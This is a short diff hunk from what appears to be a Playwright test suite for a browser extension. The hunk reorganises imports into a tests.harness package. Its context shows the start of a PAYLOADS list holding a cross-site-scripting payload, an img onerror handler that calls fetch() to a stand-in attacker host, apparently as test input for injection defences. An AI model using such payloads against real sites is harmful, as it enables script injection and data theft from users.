@@ -5,7 +5,9 @@ from __future__ import annotations
 import re
 
 from playwright.sync_api import Page, Request, expect
-from support import Extension, Server
+
+from tests.harness.browser import Extension
+from tests.harness.server import Server
 
 PAYLOADS = [
     "<img src=x onerror=\"window.__pwned=1;fetch('https://attacker.invalid/img')\">",
